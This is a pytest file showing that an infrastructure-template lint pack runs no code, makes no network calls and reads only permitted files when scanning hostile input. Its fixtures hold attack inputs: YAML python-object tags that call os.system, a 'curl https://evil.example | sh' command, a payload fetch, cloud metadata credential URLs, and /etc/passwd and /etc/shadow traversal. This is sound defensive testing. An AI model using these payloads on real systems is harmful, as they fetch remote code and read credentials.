"""The pack is safe to run on untrusted templates: it runs nothing from them, makes no network calls,
writes no file, and opens only the files it was given (Terraform: files the configuration names, inside
its directory; CloudFormation: the scan's deployment description, and what it names inside its directory). Proved with a Python audit hook (PEP 578) over the engine, the checkov adapter and the
cfn-lint adapter, all in process, on hostile input (audit_probe.py)."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

import hostile

PROBE = Path(__file__).with_name("audit_probe.py")
REPO_ROOT = Path(__file__).resolve().parents[2]
# Events that would mean running, importing, networking or changing files: none may come from the pack.
FORBIDDEN = ("exec", "compile", "import", "code.__new__", "marshal.", "pickle.", "ctypes.", "cpython.",
             "subprocess.", "os.system", "os.exec", "os.posix_spawn", "os.spawn", "os.fork", "os.startfile",
             "os.kill", "socket.", "urllib.", "http.", "ftplib.", "smtplib.", "webbrowser.", "os.mkdir",
             "os.remove", "os.rename", "os.rmdir", "os.chmod", "os.chown", "os.link", "os.symlink",
             "os.truncate", "os.utime", "shutil.", "tempfile.", "os.listdir", "os.scandir", "glob.")
PWNED = "pwned"  # a file the hostile templates try to create

HOSTILE_TEMPLATES = {
    "python-apply.yaml": f"Resources: !!python/object/apply:os.system ['touch {PWNED}']\n",
    "python-new.yaml": f"Resources: !!python/object/new:pathlib.Path ['{PWNED}']\n",
    "python-name.yaml": "Resources:\n  Sg: !!python/name:os.system\n",
    "python-module.yaml": "Resources:\n  Sg: !!python/module:yaml\n",
    "short-python-tag.yaml": f"Resources:\n  Sg:\n    Type: !python/object/apply:os.system ['touch {PWNED}']\n",
    "includes-and-urls.yaml": """\
Transform:
  Name: AWS::Include
  Parameters: {Location: file:///etc/passwd}
Resources:
  Nested:
    Type: AWS::CloudFormation::Stack
    Properties:
      TemplateURL: http://169.254.169.254/latest/meta-data/iam/security-credentials/
  Included:
    Fn::Transform: {Name: AWS::Include, Parameters: {Location: s3://bucket/../../etc/shadow}}
  Sg:
    Type: AWS::EC2::SecurityGroup
    Metadata:
      AWS::CloudFormation::Init:
        config:
          commands: {pwn: {command: touch pwned}}
          sources: {/tmp: https://evil.example/payload.tgz}
    Properties:
      GroupDescription: !Sub '{{resolve:ssm:/etc/passwd}}'
      VpcId: !ImportValue ../../etc/passwd
      SecurityGroupIngress:
        - IpProtocol: tcp
          FromPort: !Ref AWS::Region
          ToPort: !Select [0, !GetAZs '']
          CidrIp: !Sub '{{resolve:secretsmanager:arn:aws:secretsmanager:us-east-1:123456789012:secret:x}}'
  Task:
    Type: AWS::ECS::TaskDefinition
    Properties:
      ContainerDefinitions:
        - Name: app
          Image: $(touch pwned)
          Command: [sh, -c, 'curl https://evil.example | sh']
          EntryPoint: ['__import__("os").system("touch pwned")']
""",
}
# A configuration whose functions name files outside it, and one inside it that it may read.
EVALUATED_CONFIGURATION = """\
locals {
  passwd  = file("/etc/passwd")
  escaped = file("${path.module}/../../../../etc/passwd")
  shadow  = fileexists("/etc/shadow")
  inside  = templatefile("${path.module}/containers.json", { port = 8080 })
}
resource "aws_ecs_task_definition" "app" {
  container_definitions = local.inside
  family                = local.passwd
  cpu                   = local.escaped
  memory                = local.shadow
}
"""
# Modules a template directory could plant for an import that follows the working directory.
PLANTED_MODULES = ("yaml", "json", "policies", "hoplint_checkov", "_hoplint_cfn_lint", "cfnlint")


@pytest.fixture(scope="module")
def audit(tmp_path_factory) -> tuple:
    """(events the pack raised on hostile input, the hostile directory, the files it was given)."""
    directory = tmp_path_factory.mktemp("untrusted")
    for module in PLANTED_MODULES:
        (directory / f"{module}.py").write_text(f"open({PWNED!r}, 'w').close()\n")
    templates = [directory / name for name in HOSTILE_TEMPLATES]
    for path in templates:
        path.write_text(HOSTILE_TEMPLATES[path.name])
    (directory / "alias-bomb.yaml").write_bytes(hostile.alias_bomb(48, 2))
    (directory / "nested.json").write_text('{"Resources": ' + "[" * 1000 + "]" * 1000 + "}")
    templates += [directory / "alias-bomb.yaml", directory / "nested.json"]
    plan = directory / "plan.json"
    plan.write_text(json.dumps({"format_version": "1.2", "planned_values": {"root_module": {"resources": [
        {"address": "aws_ecs_task_definition.x", "type": "aws_ecs_task_definition",
         "values": {"container_definitions": "!!python/object/apply:os.system ['touch pwned']"}}]}}}))
    configuration = directory / "infra" / "main.tf"
    configuration.parent.mkdir()
    configuration.write_text('resource "aws_ecs_task_definition" "app" {}\n')
    # A deployment description naming files outside its directory: the pack reads the description, not them.
    description = directory / ".hoplint.yaml"
    description.write_text("stacks:\n  - template: ../../../../etc/passwd\n  - template: python-apply.yaml\n"
                           "    parameters: /etc/shadow\n")
    containers = configuration.parent / "containers.json"
    containers.write_text('[{"name": "app", "portMappings": [{"containerPort": 8080}]}]')
    evaluated = directory / "evaluated" / "main.tf"  # read by hoplint's own evaluation (hcl/evaluation.py)
    evaluated.parent.mkdir()
    evaluated.write_text(EVALUATED_CONFIGURATION)
    shutil.copyfile(containers, evaluated.parent / "containers.json")
    spec = directory / "spec.json"
    spec.write_text(json.dumps({
        "templates": [str(path) for path in templates],
        "terraform_plan": str(plan),
        "terraform_configuration": str(configuration),
        "terraform_evaluated": str(evaluated),
        "terraform_container_definitions": [
            'file("/etc/passwd")',  # outside the configuration: never read
            'file("${path.module}/../../../../etc/passwd")',
            'templatefile("${path.module}/containers.json", {port = 8080})',  # inside it: read
        ],
    }))
    environment = dict(os.environ, PYTHONPATH=str(REPO_ROOT), PYTHONDONTWRITEBYTECODE="1")
    probe = subprocess.run([sys.executable, str(PROBE), str(spec)], cwd=directory, env=environment,
                           capture_output=True, text=True, timeout=300, check=False)
    assert probe.returncode == 0, probe.stderr
    given = [str(path) for path in templates] + [str(plan), str(containers), str(description), str(evaluated),
                                                 str(evaluated.parent / "containers.json")]
    return json.loads(probe.stdout), directory, given


def literal_parsing(event: dict) -> bool:
    """ast.literal_eval (Terraform templatefile variables) compiles a literal to a syntax tree, never to
    code it runs: that compile event is the only one allowed, and no exec event may follow it."""
    return event["event"] == "compile" and "literal_eval" in event["functions"]


def test_the_pack_runs_imports_and_connects_nothing_and_writes_no_file(audit):
    events, directory, _ = audit
    assert [e for e in events if e["event"].startswith(FORBIDDEN) and not literal_parsing(e)] == []
    assert any(literal_parsing(e) for e in events), "the Terraform templatefile was not read"
    assert not (directory / PWNED).exists()


def test_the_pack_opens_only_the_files_it_was_given_and_only_to_read_them(audit):
    events, directory, given = audit
    opened = [tuple(e["args"][:2]) for e in events if e["event"] == "open"]
    assert opened, "the audit saw no file opened: it recorded nothing"
    # Relative paths are the probe's, whose working directory is the hostile directory.
    opened_paths = {os.path.normpath(os.path.join(directory, path)) for path, _ in opened}
    assert opened_paths <= set(given)
    assert str(directory / ".hoplint.yaml") in opened_paths, "the deployment description was not read"
    assert all(set(mode) <= set("rbt") for _, mode in opened), opened
    evaluated = [path for path in given if "/evaluated/" in path]  # the configuration and the file it reads
    assert set(evaluated) <= opened_paths, "hoplint's evaluation of the configuration read nothing"
